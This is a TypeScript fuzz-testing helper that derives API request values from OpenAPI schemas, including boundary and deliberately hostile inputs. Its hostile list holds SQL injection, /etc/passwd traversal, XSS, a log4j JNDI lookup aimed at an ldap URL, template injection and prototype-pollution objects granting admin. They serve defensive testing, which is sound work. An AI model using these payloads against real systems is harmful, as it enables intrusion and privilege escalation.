// Values for the route fuzzer (fuzz-routes.test.ts), generated from the JSON schemas the OpenAPI
// document declares: well-formed ones (so requests get past the first check), values at and just
// beyond each limit, and hostile ones (wrong types, huge or odd text, control characters,
// prototype keys, deep nesting).
import fc from 'fast-check';

/** The part of JSON Schema the document uses (zod's conversion through @fastify/swagger). */
export interface JsonSchema {
  type?: string | string[];
  format?: string;
  pattern?: string;
  enum?: unknown[];
  const?: unknown;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  items?: JsonSchema;
  minItems?: number;
  maxItems?: number;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  anyOf?: JsonSchema[];
  nullable?: boolean;
}

/** What exists in the database, so that ids and addresses find something. */
export interface KnownValues {
  ids: string[];
  emails: string[];
  settingKeys: string[];
}

/** Spliced into the JSON text as raw brackets: JSON.stringify itself would overflow on them. */
export const DEEP_NESTING_MARK = '\uf8ffdeep:';

const REFUSED_CHARACTERS = [
  ...Array.from({ length: 0x20 }, (_, code) => code).filter((code) => ![0x09, 0x0a, 0x0d].includes(code)),
  0x7f,
].map((code) => String.fromCharCode(code));

const NOW = Date.now();
const DAY_MS = 86_400_000;

const HUGE_TEXTS = [5_000, 70_000, 300_000].flatMap((length) => [
  'x'.repeat(length),
  '€😀'.repeat(length / 3),
]);

const TRICKY_TEXTS = [
  "' OR 1=1 --",
  '%',
  '_',
  '\\',
  '%_\\%',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself is the test (a log4j lookup)
  '${jndi:ldap://example.com/a}',
  '{{7*7}}',
  'Robert"); DROP TABLE users;--',
  '\u202eevil',
  '\ufeffbom',
  '\ud800',
  '\udfff\ud800',
  'e\u0301',
  '👨‍👩‍👧‍👦',
  ' ',
  '   padded   ',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '0x10',
  'true',
  '[]',
  '{}',
  'a:b:c',
  '\u2028\u2029',
  '\u0085\u009f',
];

/** A control character, NUL most often: the one PostgreSQL cannot store at all. */
const controlCharacter = fc.oneof(fc.constant('\u0000'), fc.constantFrom(...REFUSED_CHARACTERS));

/** The text with a control character put in somewhere: it looks right to every other rule. */
const withControlCharacter = (text: fc.Arbitrary<string>) =>
  fc.tuple(text, controlCharacter, fc.nat()).map(([value, character, at]) => {
    const index = at % (value.length + 1);
    return `${value.slice(0, index)}${character}${value.slice(index)}`;
  });

const controlText = withControlCharacter(fc.string({ maxLength: 12 }));

const prototypeKeys = fc.constantFrom<unknown>(
  JSON.parse('{"__proto__":{"isAdmin":true,"role":"Admin"}}'),
  JSON.parse('{"constructor":{"prototype":{"isAdmin":true}}}'),
  { constructor: 'x', toString: 'x', valueOf: 1, hasOwnProperty: 'x', __defineGetter__: 'x' },
);

// Deeper than any recursive walk of ours could go (V8 stops near 10,000 frames).
const deepNesting = fc.constantFrom(10, 1_000, 20_000).map((depth) => `${DEEP_NESTING_MARK}${depth}`);

/** Anything a field should never get. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(
    null,
    true,
    false,
    0,
    -1,
    0.5,
    1e308,
    -1e308,
    2 ** 31,
    2 ** 53 + 2,
    [],
    {},
    [null],
    '',
  ),
  controlText,
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(...TRICKY_TEXTS),
  fc.constantFrom(...HUGE_TEXTS),
  prototypeKeys,
  deepNesting,
  fc.jsonValue({ maxDepth: 3 }),
);

const isoInstant = fc
  .integer({ min: -60, max: 120 })
  .chain((days) => fc.integer({ min: 0, max: DAY_MS - 1 }).map((ms) => new Date(NOW + days * DAY_MS + ms)))
  .map((date) => date.toISOString());
const isoDay = isoInstant.map((instant) => instant.slice(0, 10));
const clockTime = fc
  .tuple(fc.integer({ min: 0, max: 23 }), fc.constantFrom(0, 30, 15))
  .map(([hours, minutes]) => `${String(hours).padStart(2, '0')}:${String(minutes).padStart(2, '0')}`);

const ODD_INSTANTS = [
  '0001-01-01T00:00:00Z',
  '9999-12-31T23:59:59.999Z',
  '1970-01-01T00:00:00Z',
  '2024-02-29T00:00:00+14:00',
  '2024-02-29T23:30:00-12:00',
  '2038-01-19T03:14:08Z',
  '2025-01-01T00:00:00.123456789Z',
  '+275760-09-13T00:00:00Z',
  '2025-13-01T00:00:00Z',
];
const ODD_DAYS = ['0000-01-01', '9999-12-31', '2024-02-30', '275760-09-13', '2025-1-1', '1899-12-31'];

/** Text that fits a field of this name (`email`, `timeZone`, `day`…), else text of a fitting length. */
function wellFormedText(schema: JsonSchema, name: string, known: KnownValues): fc.Arbitrary<string> {
  const isUuid = schema.format === 'uuid' || /(^id$|Id$)/.test(name);
  if (isUuid && !/^razorpay|^supabase/.test(name)) {
    return fc.oneof(fc.constantFrom(...known.ids), fc.uuid({ version: 4 }));
  }
  if (schema.format === 'date-time' || schema.pattern?.includes('T(?:')) return isoInstant;
  if (/email|recipient/i.test(name)) {
    return fc.oneof(
      fc.constantFrom(...known.emails),
      fc.emailAddress(),
      fc.constantFrom(...known.emails).map((e) => e.toUpperCase()),
    );
  }
  if (/password/i.test(name)) return fc.constantFrom('correct-horse-7', 'Another-strong-pass-42', 'short');
  if (/timeZone/.test(name)) {
    return fc.constantFrom(
      'Asia/Kolkata',
      'Europe/Berlin',
      'UTC',
      'Pacific/Chatham',
      'Etc/GMT+12',
      'Not/AZone',
      'asia/kolkata',
    );
  }
  if (name === 'key') return fc.constantFrom(...known.settingKeys, 'NoSuchSetting');
  if (name === 'value') return fc.constantFrom('true', 'false', '25', '1', 'pdf,png', '0', '-1', '99999', '');
  if (/day|date/i.test(name)) return fc.oneof(isoDay, isoInstant);
  if (name === 'start' || name === 'end') return fc.oneof(clockTime, isoInstant);
  if (name === 'domain') return fc.constantFrom('example.com', 'example.org', 'xn--bcher-kva.example', 'a.b');
  const minLength = schema.minLength ?? 0;
  const maxLength = Math.max(minLength, Math.min(schema.maxLength ?? 40, 60));
  return fc.oneof(fc.string({ minLength, maxLength }), fc.string({ unit: 'grapheme', minLength, maxLength }));
}

function textAtLimits(schema: JsonSchema): fc.Arbitrary<unknown> {
  const lengths = [0, schema.minLength, schema.maxLength].filter((n): n is number => n !== undefined);
  const around = [...new Set(lengths.flatMap((n) => [n - 1, n, n + 1]).filter((n) => n >= 0))];
  return fc.oneof(
    fc.constantFrom(...around).chain((n) => fc.constantFrom('a'.repeat(n), '€'.repeat(n), '😀'.repeat(n))),
    fc.constantFrom(
      '00000000-0000-0000-0000-000000000000',
      'ffffffff-ffff-ffff-ffff-ffffffffffff',
      '00000000-0000-0000-0000-00000000000g',
      ...ODD_INSTANTS,
      ...ODD_DAYS,
    ),
  );
}

function numberAtLimits(schema: JsonSchema): fc.Arbitrary<unknown> {
  const limits = [schema.minimum, schema.maximum, schema.exclusiveMinimum].filter(
    (n): n is number => n !== undefined,
  );
  return fc.constantFrom(
    ...limits.flatMap((n) => [n - 1, n, n + 1, n + 0.5]),
    0,
    -0,
    -1,
    0.1,
    2 ** 31 - 1,
    2 ** 31,
    -(2 ** 31) - 1,
    Number.MAX_SAFE_INTEGER,
    Number.MAX_SAFE_INTEGER + 2,
    1e21,
    -1e21,
    5e-324,
  );
}

const typeOf = (schema: JsonSchema) =>
  Array.isArray(schema.type) ? schema.type.find((type) => type !== 'null') : schema.type;

/** A generator of values for a field of a schema: how the fields inside an object or a list are made. */
type ValuesOf = (schema: JsonSchema, name: string, known: KnownValues) => fc.Arbitrary<unknown>;

/**
 * A value of the schema's shape that may break its rules here and there, at any depth: mostly
 * well formed, sometimes at or past a limit, hostile, or text with a control character in it.
 */
export function valueFor(schema: JsonSchema, name: string, known: KnownValues): fc.Arbitrary<unknown> {
  const isText = typeOf(schema) === 'string' && !schema.enum;
  return fc.oneof(
    { weight: 12, arbitrary: shaped(schema, name, known, valueFor) },
    { weight: 2, arbitrary: valueAtLimits(schema, name, known) },
    { weight: 2, arbitrary: hostileValue },
    { weight: isText ? 2 : 0, arbitrary: withControlCharacter(wellFormedText(schema, name, known)) },
  );
}

/** A value the schema accepts all through, as far as a generator can tell from its JSON Schema. */
export function wellFormedValue(schema: JsonSchema, name: string, known: KnownValues): fc.Arbitrary<unknown> {
  return shaped(schema, name, known, wellFormedValue);
}

/** A value of the schema's type and within its limits, whose fields and items `children` makes. */
function shaped(
  schema: JsonSchema,
  name: string,
  known: KnownValues,
  children: ValuesOf,
): fc.Arbitrary<unknown> {
  const value = ((): fc.Arbitrary<unknown> => {
    if (schema.anyOf) return fc.oneof(...schema.anyOf.map((option) => shaped(option, name, known, children)));
    if (schema.enum) return fc.constantFrom(...schema.enum);
    if (schema.const !== undefined) return fc.constant(schema.const);
    switch (typeOf(schema)) {
      case 'string':
        return wellFormedText(schema, name, known);
      case 'integer':
        return fc.integer({
          min: Math.max(schema.minimum ?? (schema.exclusiveMinimum ?? -1001) + 1, -1_000_000),
          max: Math.min(schema.maximum ?? 1000, 1_000_000),
        });
      case 'number':
        return fc
          .double({
            min: schema.minimum ?? schema.exclusiveMinimum ?? -1000,
            max: schema.maximum ?? 1000,
            noNaN: true,
          })
          .map((n) => Math.round(n * 100) / 100);
      case 'boolean':
        return fc.boolean();
      case 'array':
        return fc.array(children(schema.items ?? {}, name, known), {
          minLength: schema.minItems ?? 0,
          maxLength: Math.min(schema.maxItems ?? 4, 4),
        });
      case 'object':
        return objectFor(schema, known, children);
      default:
        return fc.jsonValue({ maxDepth: 2 });
    }
  })();
  return schema.nullable ? fc.option(value, { nil: null, freq: 6 }) : value;
}

function objectFor(schema: JsonSchema, known: KnownValues, children: ValuesOf): fc.Arbitrary<unknown> {
  const properties = Object.entries(schema.properties ?? {});
  const model = Object.fromEntries(properties.map(([key, inner]) => [key, children(inner, key, known)]));
  return fc.record(model, { requiredKeys: (schema.required ?? []).filter((key) => key in model) });
}

function valueAtLimits(schema: JsonSchema, name: string, known: KnownValues): fc.Arbitrary<unknown> {
  switch (typeOf(schema)) {
    case 'string':
      return textAtLimits(schema);
    case 'integer':
    case 'number':
      return numberAtLimits(schema);
    case 'array': {
      const item = wellFormedValue(schema.items ?? {}, name, known);
      const tooMany = (schema.maxItems ?? 50) + 1;
      return fc.oneof(
        fc.constant([]),
        fc.array(item, { minLength: tooMany, maxLength: tooMany }),
        item.map((one) => Array.from({ length: 5 }, () => one)),
      );
    }
    case 'object': {
      const whole = objectFor(schema, known, wellFormedValue) as fc.Arbitrary<Record<string, unknown>>;
      return fc.oneof(
        fc.constant({}),
        whole.map((value) => ({ ...value, unexpected: 'field' })),
        whole.map((value) => Object.fromEntries(Object.entries(value).slice(1))),
      );
    }
    default:
      return hostileValue;
  }
}
